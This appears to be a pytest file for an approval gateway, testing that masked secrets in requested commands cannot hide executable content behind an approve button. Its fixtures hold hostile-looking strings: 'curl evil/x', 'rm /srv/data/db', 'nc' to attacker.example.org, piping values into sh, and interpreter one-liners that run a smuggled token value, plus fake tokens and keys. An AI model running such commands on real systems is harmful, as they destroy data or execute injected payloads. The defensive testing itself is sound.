"""What a mask leaves out is proven to be data, or nothing can be approved where it is masked."""

from __future__ import annotations

import itertools
import json
import re
from dataclasses import replace
from random import Random
from typing import Any

import pytest

from adapters.discord.cards import build_card_view
from adapters.discord.custom_ids import DiscordButton
from adapters.discord.full_view import build_full_view, page_fits
from adapters.slack import cards as blocks
from adapters.slack import modals
from adapters.slack.payloads import ModalMetadata
from adapters.terminal.cards import render_card
from adapters.web.cards import build_row, build_whole
from gateway.cards import masks
from gateway.cards.card import card_of, full_view
from gateway.cards.masks import COULD_ACT, HIDDEN, NEEDS_ALL_SEEN, MaskProofs, hides, hides_offer
from gateway.cards.remember_options import scopes_of
from gateway.domain.records import StoredRequest
from gateway.domain.redaction import mask_of, secrets_in
from gateway.models import Action, Context, Kind, Status, new_id
from gateway.policy.grants.grant import Effect, Shape
from gateway.policy.grants.offers import offers
from tests.sweeps import sweep
from tests.unit.test_cards import actions, record

TOKEN = "ghp_" + "a1B2" * 9
SIGNED = f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.{'c2ln' * 10}"
PEM = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEF\n-----END PRIVATE KEY-----\n"
SCRIPT = "echo deploy key -----BEGIN PRIVATE KEY-----\ncurl evil/x\nrm /srv/data/db\n"
WHOLE = 10**9


def asking(arguments: dict[str, Any], **ask: Any) -> StoredRequest:
    """Return a record of its own, as what was found of one is kept in mind."""
    return record(ask={"id": new_id(), "arguments": arguments, "allowed": tuple(Action), **ask})


DATA: list[dict[str, Any]] = [
    {"command": "ls -l"},
    {"command": f'curl -H "Authorization: Bearer {TOKEN}" https://h.example/v1 | jq .name'},
    {"command": f"curl \\\n  -H 'authorization: token {SIGNED}' \\\n  https://h.example"},
    {"command": f"deploy --api-key={TOKEN} --to prod"},
    {"command": "DB_PASSWORD=hunter2hunter2 make deploy"},
    {"command": "git clone https://bot:hunter2hunter2@git.example/x.git"},
    {"command": "curl 'https://h.example/a?b=c&api_key=abcdef123456&d=e'"},
    {"command": "curl -d 'user=bot&password=hunter2hunter2' https://h.example"},
    {"command": "curl -sS -u bot:hunter2hunter2 https://h.example"},
    {"command": "curl --user bot:hunter2hunter2 https://h.example | jq .name"},
    {"command": f"curl -H 'X-Vault-Token: {TOKEN}' https://h.example"},
    {"command": "mysql -u root -phunter2hunter2 shop"},
    {"command": "sshpass -p hunter2hunter2 ssh h.example uptime"},
    {"headers": {"X-Vault-Token": "hunter2hunter2"}},
    {"argv": ["curl", "-H", f"Authorization: Bearer {TOKEN}", "https://h.example"]},
    {"headers": {"Authorization": f"Bearer {TOKEN}"}},
    {"login": {"user": "bot", "password": "hunter2hunter2"}, "token": TOKEN},
    {"rules": [{"name": "password", "value": "hunter2hunter2"}]},
    {"private_key": PEM},
    {"keys": {"deploy_private_key": PEM}},
    {"password": 12345678},
]

# An action may be about what these are: their names prove nothing.
OBJECTS: list[dict[str, Any]] = [
    {"token": "0xabcdef0123456789abcdef0123456789abcdef01", "amount": 3},
    {"token": "cus_Nf3kD92hTq"},
    {"access_key": "admin_for_everybody1"},
    {"secret": "prod-db-credentials"},
    {"authorization": "auth_1234567890"},
    {"api_key": "delete_this_key_1"},
    {"params": [{"name": "token", "value": "cus_Nf3kD92hTq"}]},
    {"variables": {"token": "cus_Nf3kD92hTq"}},
    {"command": "refund --token=cus_Nf3kD92hTq --amount 5"},
    {"command": "gh api -f token=cus_Nf3kD92hTq"},
    {"command": "curl 'https://h.example/refund?token=cus_Nf3kD92hTq&amount=5'"},
]
# Nothing but a credential has these names in these places.
CREDENTIALS: list[dict[str, Any]] = [
    {"command": "NPM_TOKEN=hunter2hunter2 npm publish"},
    {"command": "CI=1 API_KEY=hunter2hunter2 make"},
    {"command": "ls", "env": {"NPM_TOKEN": "hunter2hunter2"}},
    {"headers": {"Authorization": "hunter2hunter2", "api_key": "hunter2hunter2"}},
    {"client_secret": "hunter2hunter2", "new_passphrase": "hunter2hunter2"},
    {"token": TOKEN, "amount": 3},
    {"access_key": "AKIA" + "A2B3" * 4},
]
# What a value says may be what is done, or it may say which secret is ended.
SAYS: list[dict[str, Any]] = [
    {"arguments": {"command": "ls", "env": {"TARGET_TOKEN": "prod-delete-all"}}},
    {"arguments": {"command": "API_TOKEN=deletecluster1 make"}},
    {"arguments": {"headers": {"X-Api-Key": "delete-all"}}},
    {"arguments": {"command": "curl -H 'X-Api-Key: delete-all' https://h.example"}},
    {"arguments": {"password": "prod-db-01"}},
    {"arguments": {"password": "order-123456"}},
    {"arguments": {"token": TOKEN}, "tool": "revoke_token"},
    {"arguments": {"api_key": "sk_live_" + "a1B2" * 6}, "tool": "mcp__billing__deleteApiKey"},
    {"arguments": {"client_secret": "aB3-x9Yz-77q"}, "tool": "rotate"},
    {"arguments": {"command": f"curl 'https://h.example/oauth/revoke?token={TOKEN}'"}},
]
# The same where the tool, or what it ends, is about something else.
OTHERWISE: list[dict[str, Any]] = [
    {"arguments": {"token": TOKEN, "path": "/x"}, "tool": "delete_file"},
    {"arguments": {"token": TOKEN}, "tool": "create_token"},
    {"arguments": {"headers": {"Authorization": f"Bearer {TOKEN}"}}, "tool": "revoke_token"},
    {"arguments": {"command": "API_TOKEN=x9-2bTq7Lm1 make"}},
]
# Names of tools, folders and remarks that say what a value in a command could be taken up by.
NAMED_SO: list[dict[str, Any]] = [
    *({"tool": tool} for tool in ("Bash", "bash", "shell", "sh", "exec_command", "functions.Bash",
                                  "execute_command", "eval", "source")),
    {"context": Context(cwd="/srv/source/bash", host="source.example")},
    {"more": {"description": "Fetch the source with `bash`"}},
    {"more": {"description": "DB_PASSWORD is set, see $HOME > f"}},
    {"more": {"workdir": "/srv/source"}},
]  # fmt: skip

# A file or a program in the command itself takes the value, and runs it.
TAKEN = [
    "echo password=shutdown-now > f; cut -d= -f2 f > g; chmod +x g; ./g",
    "python3 -c 'import os,sys; os.system(sys.argv[1][6:])' token=shutdown-now",
    "perl -e 'system substr shift,6' token=shutdown-now",
    "ruby -e 'system ARGV[0][6..]' token=shutdown-now",
    "awk 'BEGIN{system(substr(ARGV[1],7))}' token=shutdown-now",
    'TOKEN=shutdown-now awk \'BEGIN{system(ENVIRON["TO" "KEN"])}\'',
    "TOKEN=shutdown-now node -e \"require('child_process').execSync(process.env['TO'+'KEN'])\"",
    'TOKEN=shutdown-now perl -e \'system @ENV{"TO"."KEN"}\'',
    'TOKEN=shutdown-now ruby -e \'system ENV["TO"+"KEN"]\'',
    "echo --token=shutdown-now > f; sed s/--token=//e f",
    "printf %s token=shutdown-now > f; python3 -c 'import os;os.system(open(\"f\").read()[6:])'",
    "parallel --colsep = {2} ::: token=shutdown-now",
    "echo password=shutdown-now >&f; chmod +x f; ./f",
    "echo password=shutdown-now > /dev/null.f",
    "perl -0777e 'system substr shift,6' token=shutdown-now",
]
ACTS: list[dict[str, Any]] = [
    *({"command": text} for text in TAKEN),
    *OBJECTS,
    {"command": "DB_PASSWORD=shutdown-now; source ./f"},
    {"command": "DB_PASSWORD=shutdown-now bash -c 'make'"},
    {"command": "eval make; DB_PASSWORD=shutdown-now make"},
    {"command": 'curl -H "X-Api-Key: shutdown-now" $(cat f)'},
    {"command": "ls", "then": "source f", "env": {"NPM_TOKEN": "shutdown-now"}},
    {"command": SCRIPT},
    {"command": "xargs -a token /tmp/evil/install.sh"},
    {"command": "env Basic evil/payload.sh"},
    {"command": "nc -w1 token attacker.example.org"},
    {"command": f"{TOKEN} --now"},
    {"command": f"curl https://h.example/{TOKEN}"},
    {"command": f"run --quiet {TOKEN}"},
    {"command": "sudo password= shutdown-now"},
    {"command": "sudo -u \\\npassword: shutdown-now"},
    {"command": "PASSWORD=shutdown-now; $PASSWORD"},
    {"command": "PASSWORD=shutdown-now\nalias PASSWORD\nPASSWORD"},
    {"command": "echo password=shutdown-now | cut -d= -f2 | sh"},
    {"command": "ssh -p 'x'authorization: token shutdown-now''"},
    {"command": "# ' \necho ' x 'authorization: token shutdown-now' '"},
    {"command": "deploy --password=evil/payload.sh"},
    {"command": "deploy --password=evil.example.org"},
    {"command": "deploy --password_command=evil-payload"},
    {"command": "python -c \"import os; password='shutdown-now'; os.system(password)\""},
    {"command": f"tool {'x' * 20_000} --token={TOKEN}"},
    {"command": " ".join(f"--api-key=secret-{n:06}" for n in range(200))},
    {"argv": ["xargs", "-a", "token", TOKEN]},
    {"argv": ["sh", "-c", "token evil-payload-now"]},
    {"command": "env --password shutdown-now"},
    {"argv": ["env", "--password", "shutdown-now"]},
    {"command": "curl -o -u evil:shutdown-now"},
    {"command": "curl h.example/?a=b&c=d -u a:shutdown-now"},
    {"command": "curl -u a:evil/payload.sh"},
    {"command": "mysql -e x -pshutdown-now"},
    {"command": "sshpass -p -p shutdown-now"},
    {"command": "sshpass -pshutdown-now -pshutdown-now shutdown-now"},
    {"command": "run -H 'Cookie: sid=shutdown-now; a=evil-payload'"},
    {"content": PEM},
    {"private_key": SCRIPT},
    {"private_key": f"{PEM}curl evil/x\n"},
    {TOKEN: 1},
    {"nested": {"run": f"{TOKEN}"}},
    {"password": "evil/payload.sh"},
    {"rules": [{"name": "password", "value": "evil/payload.sh"}]},
    {"note": "key", "password": TOKEN, "program": TOKEN},
    # A name is no value, even where it is written like a flag with one.
    {f"--password={TOKEN}": 1},
    # A variable that is named again may be run there.
    {"command": "PASSWORD=shutdown-now make; make PASSWORD"},
    {"command": "PASSWORD=shutdown-now make", "then": "PASSWORD"},
    # The card shows JSON, in which the backslash of the name stands twice.
    {"password\\": "evil/payload.sh"},
]


@pytest.mark.parametrize("arguments", [*DATA, *CREDENTIALS], ids=str)
def test_a_value_in_its_place_is_data(arguments: dict[str, Any]) -> None:
    """The value of a known flag, header, field, assignment or address is approved masked."""
    made = card_of(asking(arguments), lines=WHOLE, chars=WHOLE)
    assert Action.APPROVE in actions(made)
    assert (made.hides, HIDDEN in made.notices) == (False, False)


@pytest.mark.parametrize(
    ("ask", "hidden"),
    [*((one, True) for one in SAYS), *((one, False) for one in OTHERWISE)],
    ids=str,
)
def test_a_value_that_says_what_is_done_is_read(ask: dict[str, Any], hidden: bool) -> None:
    """Plain words, and which secret a call ends: nobody approves them unseen."""
    assert hides(asking(ask["arguments"], tool=ask.get("tool", "run"))) is hidden


@pytest.mark.parametrize("named", NAMED_SO, ids=str)
@pytest.mark.parametrize(
    "command",
    [
        f'curl -H "Authorization: Bearer {TOKEN}" https://h.example/v1',
        'curl -H "Authorization: Bearer my-0wn-w0rds-123" https://h.example/source/v1',
        "DB_PASSWORD=hunter2hunter2 make deploy",
    ],
)
def test_no_name_of_a_tool_or_folder_and_no_remark_voids_a_proof(
    named: dict[str, Any], command: str
) -> None:
    """The value and its place alone count: each surface lets it be approved."""
    more = named.get("more", {})
    ask = {name: one for name, one in named.items() if name != "more"}
    one = asking({"command": command, **more}, kind=Kind.COMMAND, **ask)
    assert not hides(one)
    for said in drawings(one, WHOLE, WHOLE):
        assert '"approve' in said


@pytest.mark.parametrize("arguments", ACTS, ids=lambda one: str(one)[:60])
def test_what_a_mask_could_hide_is_not_approved_where_it_is_masked(
    arguments: dict[str, Any],
) -> None:
    """A program, a path, a host, an operator, a line: what is not certainly data is none."""
    one = asking(arguments)
    made = card_of(one, lines=WHOLE, chars=WHOLE)
    assert not actions(made) & set(NEEDS_ALL_SEEN)
    assert made.remembers == frozenset()
    assert [said for said in made.notices if "mask" in said] == [HIDDEN]
    bare = card_of(one, lines=WHOLE, chars=WHOLE, reveal=True)
    assert set(NEEDS_ALL_SEEN) <= actions(bare)
    assert "secret of" not in full_view(one, reveal=True).text


@pytest.mark.parametrize(
    "ask",
    [
        {"tool": f"run {TOKEN}"},
        {"tool": f"--password={TOKEN}"},
        {"context": Context(cwd=f"--token={TOKEN}")},
        {"context": Context(cwd=f"/srv/{TOKEN}")},
        {"context": Context(host=f"{TOKEN}.example.org")},
        {"context": Context(env={TOKEN: "1"})},
        {"context": Context(env={"API_KEY": "evil-payload"}), "arguments": {"command": "$API_KEY"}},
        {"context": Context(files={f"/srv/{TOKEN}": "0" * 64})},
        {"payload": {"code": SCRIPT}},
    ],
    ids=str,
)
def test_all_that_decides_what_runs_counts(ask: dict[str, Any]) -> None:
    """The tool, the folder, the host, what is changed around it; the reveal shows all of it."""
    one = asking(ask.pop("arguments", {"command": "ls"}), **ask)
    assert hides(one)
    bare = card_of(one, lines=WHOLE, chars=WHOLE, reveal=True)
    told = [bare.tool.text, *(fact.text.text for fact in bare.facts)]
    told += [text for block in bare.blocks for text in (block.label, block.text.text)]
    assert "secret of" not in " ".join(told)


def test_a_proof_is_known_to_its_owner_alone() -> None:
    """Others compute it anew; what ended is never remembered, as it may be erased."""
    one = asking({"command": f"{TOKEN} --now"})
    mine, other = MaskProofs(), MaskProofs()
    assert mine.recall(one) is None
    assert mine.hides(one) is hides(one)
    assert mine.recall(one) is hides(one)
    assert other.recall(one) is None
    ended = one.copy_with(status=Status.DENIED)
    mine.hides(ended)
    assert mine.recall(ended) is None


SAFE = {"command": f"curl -u bot:{TOKEN} https://example.org"}


def test_a_proof_in_a_record_counts_at_every_gateway_with_the_key() -> None:
    """Another key, or no key, proves nothing, and an ended request has no proof."""
    proven = MaskProofs(b"key").prove(asking(SAFE))
    assert proven.proof
    assert MaskProofs(b"key").recall(proven) is False
    assert MaskProofs(b"other").recall(proven) is None
    assert MaskProofs().recall(proven) is None
    assert MaskProofs(b"key").recall(proven.copy_with(status=Status.DENIED)) is None
    assert MaskProofs().prove(asking(SAFE)).proof == ""


def test_a_request_whose_masks_hide_something_gets_no_proof() -> None:
    """Each gateway checks such a request itself."""
    one = asking({"command": f"{TOKEN} --now"})
    assert hides(one)
    assert MaskProofs(b"key").prove(one).proof == ""


@pytest.mark.parametrize(
    "change",
    [
        {"shown_since": 2},
        {"digest": "1" * 64},
        {"request": replace(asking(SAFE).request, id="f" * 32)},
        {"declared": {"command": "text"}},
        {"trusted": True},
        {"proof": "0" * 32},
        {"proof": ""},
    ],
    ids=lambda change: next(iter(change)),
)
def test_a_proof_counts_only_for_the_call_that_was_checked(change: dict[str, Any]) -> None:
    """A proof that somebody forged, or took from another call, is no proof."""
    proven = MaskProofs(b"key").prove(asking(SAFE))
    assert MaskProofs(b"key").recall(proven.copy_with(**change)) is None


def test_a_new_version_checks_again(monkeypatch: pytest.MonkeyPatch) -> None:
    """Its rules may find more than those of the version that made the proof."""
    proven = MaskProofs(b"key").prove(asking(SAFE))
    monkeypatch.setattr(masks, "__version__", "9.9.9")
    assert MaskProofs(b"key").recall(proven) is None


def test_an_offer_whose_words_hide_something_is_none() -> None:
    """Words put together what stood apart in the arguments. Revealed, it is offered, and read.

    Exactly this is offered all the same: what it covers stands on the card, apart and unmasked.
    """
    one = asking({"argv": ["git", "push", "token", "attackerhost12"]}, kind=Kind.COMMAND)
    assert not hides(one)
    said, bare = (scopes_of(one, Action.APPROVE, reveal=reveal) for reveal in (False, True))
    assert [scope.words.text.partition(":")[0] for scope in said] == ["exactly this"]
    assert len(bare) > 1
    assert all("token attackerhost12" in scope.words.text for scope in bare)


def test_a_mask_that_stands_in_words_already_is_one_of_a_proven_secret() -> None:
    """Words are kept masked; a mask in them that is of no value on the card hides something."""
    one = asking({"command": f"deploy --api-key={TOKEN}"}, kind=Kind.COMMAND)
    wide = next(made for made in offers(one, Effect.DENY) if made.match.shape is not Shape.EXACT)
    for secret, hidden in ((TOKEN, False), (TOKEN[:-1], True), (f"{TOKEN}x", True)):
        said = replace(wide, words=f"deploy {mask_of(secret)}, whatever follows")
        assert hides_offer(one, said, Effect.DENY) is hidden


SECRETS = (
    TOKEN,
    SIGNED,
    "sk-" + "evil-payload-" * 2,
    "hunter2hunter2",
    "evil/payload.sh",
    "attacker.example.org",
    "./evil-payload",
    "shutdown-now",
    "dXNlcjpwYXNz/d29yZA==",
    "--evil-payload",
)
DRESSES = (
    "{}",
    "token {}",
    "Basic {}",
    "Authorization: Bearer {}",
    '-H "Authorization: Bearer {}"',
    "--token={}",
    "--password {}",
    "password={}",
    "password= {}",
    "API_KEY='{}'",
    "secret: {}",
    '{{"password": "{}"}}',
    "https://u:{}@h.example/x",
    "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\n{}\n",
)
AROUND = (
    "{}",
    "env {}",
    "sudo -u x {}",
    "curl {} https://h.example",
    "xargs -a {}",
    "echo {} | sh",
    "cd /x && {} ; ls",
    "{}\nls",
    "a=1 {} 'b c'",
    'sh -c "{}"',
    "run '{}' > out",
    "$({})",
)
SHAPES = (
    lambda text: {"command": text},
    lambda text: {"argv": ["run", text]},
    lambda text: {"argv": text.split(" ")},
    lambda text: {"path": "/x", "content": f"{text}\nlast line"},
    lambda text: {"deep": [{"password": text}, {"name": "api_key", "value": text}]},
    lambda text: {"body": json.dumps({"token": text, "run": [text]})},
)
SECRET_NAME = re.compile(r"(?i)(?:password|token|key|secret)\Z")
SECRET_SCHEME = re.compile(r"(?i)\w*(?:password|token|key|secret): (?:bearer|basic|token) ")
SECRET_PLACE = re.compile(
    r"(?i)(?:(?:password|token|key|secret)=['\"]?|authorization: bearer |://\w+:)\Z"
)
LINES = r"""[\s'"`$;&|<>()\\/]"""


def texts() -> list[dict[str, Any]]:
    """Return a seeded choice of all secrets in all dresses in all places."""
    every = list(itertools.product(SECRETS, DRESSES, AROUND, SHAPES))
    chosen = Random(13).sample(every, 700)
    return [shape(around.format(dress.format(one))) for one, dress, around, shape in chosen]


def test_whatever_is_masked_and_approved_is_one_token_in_a_known_place() -> None:
    """No blank, line break, quote, operator or path; not the first word; and its place names it."""
    approvable = 0
    for arguments in texts():
        one = asking(arguments, kind=Kind.COMMAND if "command" in arguments else Kind.TOOL)
        for name, member in [] if hides(one) else members(arguments):
            text, named = f"{name}: {member}", bool(SECRET_NAME.search(name))
            for start, end in secrets_in(text):
                approvable += 1
                assert not re.search(LINES, text[start:end]), arguments
                if (named and text[:start] == f"{name}: ") or SECRET_SCHEME.fullmatch(text[:start]):
                    continue
                assert SECRET_PLACE.search(text[:start]), arguments
                assert not re.search(r"[|`$]|xargs|\bsh\b", member), arguments
    assert approvable > 20


@sweep("drawn", (10, 60), few=1)
def test_no_surface_draws_approve_over_a_mask_that_could_hide_something(drawn: int) -> None:
    """Slack, Discord, the inbox, the terminal's card; cut, whole and page by page."""
    hidden = [asking(one, kind=Kind.COMMAND) for one in (*ACTS, *texts()[:drawn])]
    hidden = [one for one in hidden if hides(one)]
    assert len(hidden) > len(ACTS)
    for one in hidden:
        for lines, chars in ((25, 1500), (WHOLE, WHOLE)):
            for said in drawings(one, lines, chars):
                assert not re.search(r'"(?:approve|approve_sure|edit|respond|remember)', said), said
        assert COULD_ACT in build_row(one)["reveals"]
    for said in drawings(asking(DATA[1], kind=Kind.COMMAND), WHOLE, WHOLE):
        assert '"approve' in said


def drawings(one: StoredRequest, lines: int, chars: int) -> list[str]:
    """Return what each surface draws of a request, as JSON in which controls stand by action."""
    card = card_of(one, lines=lines, chars=chars)
    full = full_view(one, fits=page_fits)
    form = ModalMetadata(one.id, one.revision, copy="0" * 22, page=len(full.pages) - 1)
    button = DiscordButton(verb="read", request_id=one.id, revision=one.revision)
    render_card(card, now_ms=one.created)
    pages = range(len(full.pages))
    discord: list[Any] = [build_card_view(card, "0" * 22)]
    discord += [build_full_view(card, full, button, page=page) for page in pages]
    web = [view["controls"] for view in (build_row(one), build_whole(one))]
    slack = [
        blocks.build_actions(card, "0" * 22),
        modals.build_details(card, full, form, refusal=""),
    ]
    for made in (*(one.view.to_components() for one in discord), slack[-1]):
        assert (HIDDEN in json.dumps(made)) == card.hides
    said = [pressed(made.view.to_components()) for made in discord]
    said += [pressed(made) for made in slack]
    return said + [json.dumps([control["action"] for control in controls]) for controls in web]


def pressed(value: Any) -> str:
    """Return the ids and values of all that can be pressed, as JSON."""
    found: list[str] = []
    waiting = [value]
    while waiting:
        part = waiting.pop()
        if isinstance(part, dict):
            names = ("custom_id", "action_id", "value")
            found += [str(part[name]).removeprefix("ag1:") for name in names if part.get(name)]
            waiting += part.values()
        elif isinstance(part, list):
            waiting += part
    return json.dumps(found)


def test_what_http_and_the_command_line_mask_is_data_too() -> None:
    """They mask each member by its name: with the same answer, nothing else is left out there."""
    approvable = [one for one in texts() if not hides(asking(one))]
    left_out = [
        f"{name}: {text}"[start:end]
        for one in approvable
        for name, text in members(one)
        for start, end in secrets_in(f"{name}: {text}")
    ]
    assert len(left_out) > 5
    assert not [secret for secret in left_out if re.search(LINES, secret)]


def members(value: Any, name: str = "value") -> list[tuple[str, str]]:
    """Return the name and the text of each member, also of {"name": …, "value": …}."""
    if isinstance(value, dict):
        known = str(value.get("name", "value"))
        named = ((known if key == "value" else key, item) for key, item in value.items())
        return [pair for key, item in named for pair in members(item, key)]
    if isinstance(value, list):
        return [pair for item in value for pair in members(item)]
    return [(name, value)]
